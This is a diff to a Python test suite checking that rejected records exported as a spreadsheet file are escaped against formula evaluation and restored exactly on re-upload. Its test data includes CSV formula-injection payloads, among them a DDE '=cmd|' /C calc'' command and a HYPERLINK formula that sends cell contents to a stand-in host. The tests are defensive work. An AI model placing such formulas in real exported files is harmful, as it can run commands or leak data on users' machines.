@@ -1,25 +1,29 @@
 """Rejects for a spreadsheet: nothing is computed, nothing is lost on the way there and back."""
 
+import codecs
 import csv
 import io
+import re
+import tempfile
 import uuid
 from contextlib import closing
 from pathlib import Path
 
 import pyarrow as pa
 import pytest
-from hypothesis import given
+from hypothesis import example, given
 from hypothesis import strategies as st
 from sqlalchemy import Engine
 
 from shared.datasets import DATASETS
 from shared.errors import HeaderMismatch
 from shared.ingest.dialect import BACKSLASH, Dialect
-from shared.ingest.formulas import escaped, is_computed, taken_back
+from shared.ingest.formulas import escaped, taken_back
 from shared.ingest.load import Loader
 from shared.ingest.mend import recognise_mended, recognise_upload
 from shared.ingest.rejects_file import Reason, RejectedRecord
-from shared.ingest.sheet import SHEET_COLUMNS, SheetFile
+from shared.ingest.sheet import SHEET_COLUMNS, SheetFile, written_for_a_sheet
+from shared.ingest.sniff import Wanted, sniff
 from tests.conftest import Accept, Mend
 from tests.rows import MOVIES_HEADER, movies, titles
 from tests.shared.stored import stored
@@ -27,7 +31,7 @@ from tests.shared.test_load import never, rows, upload
 
 # What spreadsheets compute, or have computed in some version: each must become text.
 FORMULAS = (
-    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "'=1", "''=1", "' =1"),
+    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t", "\r", "\n", "\0=1", " =1", "'=1", "''=1", "' =1", '"=1"', ' " =1'),
     *(
         "=cmd|' /C calc'!A0",
         '=HYPERLINK("http://x.invalid/?"&A1,"a")',
@@ -39,7 +43,32 @@ FORMULAS = (
         "\uff201",
     ),
 )
+# The same behind a character at which some program splits: how they are, and with our apostrophes.
+PIECES = {
+    "Heat;=cmd|' /C calc'!A0;": "Heat;'=cmd|' /C calc'!A0;",
+    "T\t=1+2\t": "T\t'=1+2\t",
+    "a\r=1\n+2\r\n-3": "a\r'=1\n'+2\r\n'-3",
+    "a,=1|@x": "a,'=1|'@x",
+    'Heat;"=cmd"': 'Heat;\'"=cmd"',
+    "a; =1;' +2": "a;' =1;'' +2",
+    "a;\t=1;\0=2": "a;\t'=1;'\0=2",
+    "\t=1;=2": "'\t'=1;'=2",
+    "=1;=2;;=3": "'=1;'=2;;'=3",
+    "a;\uff1d1": "a;'\uff1d1",
+}
+# What a program is taken to pass over before it computes, and what it computes.
+COMPUTED = re.compile('[ "\t\r\n\0]*[=+\\-@\uff0b\uff0d\uff1d\uff20]')
+TEXTS = st.text(alphabet=st.sampled_from("=+-@'\" ,;|\t\r\n\0a1\uff1d"), max_size=8)
 CSV = Dialect(",", quoting=True)
+DIALECTS = (
+    CSV,
+    Dialect(";", quoting=True, quote="'", escape="'"),
+    Dialect("|", quoting=True, escape=BACKSLASH),
+    Dialect("\t", quoting=False),
+    Dialect("^", quoting=False),
+    Dialect(",", quoting=True, newline="\r"),
+    Dialect(",", quoting=True, skip_initial_space=True),
+)
 REASON = Reason("title", "required", "title must not be empty", "")
 
 
@@ -54,6 +83,15 @@ def read(sheet: bytes, delimiter: str = ",") -> list[list[str]]:
     return list(csv.reader(io.StringIO(sheet.decode("utf-8-sig"), newline=""), delimiter=delimiter))
 
 
+def cells_for(sheet: bytes, delimiter: str) -> list[str]:
+    """As a program has them that splits there: as CSV, as CSV without line ends in cells, and without quotes."""
+    text = sheet.decode("utf-8-sig")
+    lines = re.split("[\r\n]", text)
+    records = [*csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)]
+    records += [record for line in lines for record in csv.reader([line], delimiter=delimiter)]
+    return [cell for record in [*records, *(line.split(delimiter) for line in lines)] for cell in record]
+
+
 @pytest.mark.parametrize("text", FORMULAS)
 def test_what_a_spreadsheet_computes_becomes_text(tmp_path: Path, text: str) -> None:
     cell = '"' + text.replace('"', '""') + '"'
@@ -62,34 +100,85 @@ def test_what_a_spreadsheet_computes_becomes_text(tmp_path: Path, text: str) -> 
     assert taken_back(pa.array([first, second])).to_pylist() == [text, "fine"]
 
 
-@pytest.mark.parametrize("text", ["", "A Film", "'Tis", "1-2", "a=b", "12.5", "((=", '"=1"', "_-", "'", "  "])
+@pytest.mark.parametrize(("text", "expected"), PIECES.items())
+def test_what_is_computed_where_a_program_splits_otherwise_becomes_text(
+    tmp_path: Path, text: str, expected: str
+) -> None:
+    cell = '"' + text.replace('"', '""') + '"'
+    sheet = sheet_of(tmp_path, f"a,b\n{cell},fine\n".encode(), 4, CSV)
+    assert read(sheet)[1][-2:] == [expected, "fine"]
+    assert not [cell for delimiter in ",;\t|" for cell in cells_for(sheet, delimiter) if COMPUTED.match(cell)]
+    assert taken_back(pa.array([expected])).to_pylist() == [text]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("", "A Film", "'Tis", "1-2", "a=b", "12.5", "((=", "_-", "'", "  ", '"x"', "a\r\n\nb", "a\t\tb"),
+        *("Up - again", "a; b", "'a';'b'", '[{"id": 1, "name": "x"}]', "10:-5", "a;'b=1"),
+    ],
+)
 def test_other_cells_stay_as_they_are(text: str) -> None:
-    assert not is_computed(text.encode())
+    assert escaped(text.encode()) == text.encode()
     assert taken_back(pa.array([text])).to_pylist() == [text]
 
 
-@given(st.text(alphabet=st.sampled_from("=+-@'\" \t\r\na1\uff1d"), max_size=8))
+@given(TEXTS)
 def test_what_is_put_before_a_cell_is_taken_back_exactly(text: str) -> None:
     assert taken_back(pa.array([escaped(text.encode()).decode()])).to_pylist() == [text]
+    assert taken_back(pa.chunked_array([[escaped(text.encode()).decode()]])).to_pylist() == [text]
     assert not escaped(text.encode()).startswith((b"=", b"+", b"-", b"@", b"\t", b"\r", b"\n"))
+
+
+@given(st.sampled_from(",;\t|"), st.lists(TEXTS, min_size=3, max_size=3), st.booleans())
+@example(",", ["a\n", "x,=1", ""], False)  # behind the line end a program takes for text what stands between cells
+@example("\t", ["a;", '"=1', ""], False)
+@example(",", ["a;=1\n", "=", ""], True)
+def test_nothing_is_computed_wherever_a_program_splits(delimiter: str, texts: list[str], is_damaged: bool) -> None:
+    line = delimiter.join('"' + text.replace('"', '""') + '"' for text in texts)
+    names, content = (line.replace("\0", ""), f"{line}{delimiter}too many\n" if is_damaged else f"{line}\n")
+    with tempfile.TemporaryDirectory() as directory:
+        header = f"{names}\n".encode()
+        sheet = sheet_of(Path(directory), header + content.encode(), len(header), Dialect(delimiter, quoting=True))
+    for other in ",;\t|":
+        assert not [cell for cell in cells_for(sheet, other) if COMPUTED.match(cell)]
+    own = [["", "", ""] if is_damaged else texts, [text.replace("\0", "") for text in texts]]
+    for row, expected in zip(reversed(read(sheet, delimiter)), own, strict=True):
+        assert taken_back(pa.array(row[6:])).to_pylist() == expected
+
+
+def test_every_cell_is_in_quotes(tmp_path: Path) -> None:
+    header, row, last = sheet_of(tmp_path, b"a,b\n-1,2\n", 4, CSV).split(b"\n")
+    assert header == codecs.BOM_UTF8 + ",".join(f'"{name}"' for name in (*SHEET_COLUMNS, "a", "b")).encode()
+    assert re.fullmatch(rb'"2","title","required","title must not be empty","[^"]*","","\'-1","2"', row)
+    assert last == b""
+
+
+def test_a_damaged_record_is_cut_to_what_a_spreadsheets_cell_holds(tmp_path: Path) -> None:
+    text = read(sheet_of(tmp_path, b"a,b\n" + b";=" * 30_000, 4, CSV))[1][5]
+    assert 30_000 < len(text) <= 32_767
 
 
 def test_no_word_for_nothing_begins_like_a_formula() -> None:
     # Else its cell would not be null any more when it comes back.
-    assert not [null for dataset in DATASETS.values() for null in dataset.nulls if is_computed(null.encode())]
+    nulls = [null.encode() for dataset in DATASETS.values() for null in dataset.nulls]
+    assert [escaped(null) for null in nulls] == nulls
 
 
-@pytest.mark.parametrize(
-    "dialect",
-    [
-        CSV,
-        Dialect(";", quoting=True, quote="'", escape="'"),
-        Dialect("|", quoting=True, escape=BACKSLASH),
-        Dialect("\t", quoting=False),
-        Dialect("^", quoting=False),
-        Dialect(",", quoting=True, newline="\r"),
-    ],
-)
+@pytest.mark.parametrize("dialect", DIALECTS)
+@pytest.mark.parametrize("quote", ['"', ""])  # spreadsheets save without them
+def test_it_comes_back_whatever_its_upload_was(tmp_path: Path, dialect: Dialect, quote: str) -> None:
+    header = dialect.delimiter.join(MOVIES_HEADER) + "\n"
+    content = (header + dialect.delimiter.join(["1"] * len(MOVIES_HEADER)) + "\n").encode()
+    sheet = sheet_of(tmp_path, content, len(header), dialect).replace(b'"', quote.encode())
+    wanted = Wanted("movies", like=dialect, recognise=recognise_mended, written=written_for_a_sheet)
+    sniffed = sniff(sheet, wanted, is_all=True)
+    assert sniffed is not None
+    assert sniffed.header == [*SHEET_COLUMNS, *MOVIES_HEADER]
+    assert (sniffed.dialect.quoting, sniffed.dialect.quote, sniffed.dialect.escape) == (True, '"', '"')
+
+
+@pytest.mark.parametrize("dialect", DIALECTS)
 def test_any_dialect_becomes_one_that_spreadsheets_know(tmp_path: Path, dialect: Dialect) -> None:
     delimiter = dialect.delimiter
     content = f"=a{delimiter}b\n-1{delimiter}x\n".encode()
@@ -100,11 +189,18 @@ def test_any_dialect_becomes_one_that_spreadsheets_know(tmp_path: Path, dialect:
     assert sheet.startswith(b"\xef\xbb\xbf")
 
 
-@pytest.mark.parametrize("record", ['"never closed,=1\n', '"a "stray" quote",=1\n', "=too,=many,=cells\n", "=few\n"])
-def test_a_damaged_record_is_one_text_and_no_cells(tmp_path: Path, record: str) -> None:
+@pytest.mark.parametrize(
+    ("record", "expected"),
+    [
+        ('"never closed,=1\n', "\"never closed,'=1"),
+        ('"a "stray" quote",=1;\n', '"a "stray" quote",\'=1;'),
+        ("=too,=many,=cells\n", "'=too,'=many,'=cells"),
+        ("=few\n", "'=few"),
+    ],
+)
+def test_a_damaged_record_is_one_text_and_no_cells(tmp_path: Path, record: str, expected: str) -> None:
     _, row = read(sheet_of(tmp_path, f"a,b\n{record}".encode(), 4, CSV))
-    text = record.rstrip("\n")
-    assert row[5:] == [f"'{text}" if text.startswith("=") else text, "", ""]
+    assert row[5:] == [expected, "", ""]
 
 
 def test_bytes_that_are_no_text_are_shown_escaped(tmp_path: Path) -> None:
@@ -116,7 +212,12 @@ def test_bytes_that_are_no_text_are_shown_escaped(tmp_path: Path) -> None:
 def test_a_file_comes_back_as_it_was_meant(
     engine: Engine, loader: Loader, accept: Accept, mend: Mend, kind: str
 ) -> None:
-    texts = {"=1+1": "-5", "'=x": '"quoted", and\ttab', "-": "plain"}
+    texts = {
+        "=1+1": "-5",
+        "'=x": '"quoted", and\ttab',
+        "-": "plain",
+        "Heat;=cmd|' /C calc'!A0;": '=1;\'=2\n@3\r\n+4|-5,"=6"',
+    }
     if kind == "movies":
         dirty = movies(*({"title": title, "overview": text, "budget": "x"} for title, text in texts.items()))
         parent = accept(dirty)
@@ -127,8 +228,7 @@ def test_a_file_comes_back_as_it_was_meant(
     row = upload(engine, parent)
     assert row["rejected_records"] == len(texts)
     sheet = sheet_of_upload(engine, loader, parent)
-    assert b",=" not in sheet
-    assert b'"=' not in sheet
+    assert not [cell for delimiter in ",;\t|" for cell in cells_for(sheet, delimiter) if COMPUTED.match(cell)]
     wrong, right = (b'"x"', b'"5"') if kind == "movies" else (b'"x"', b'"1999"')
     mending = mend(parent, sheet.replace(wrong, right), "rejects.csv")
     loader.load(mending, never)
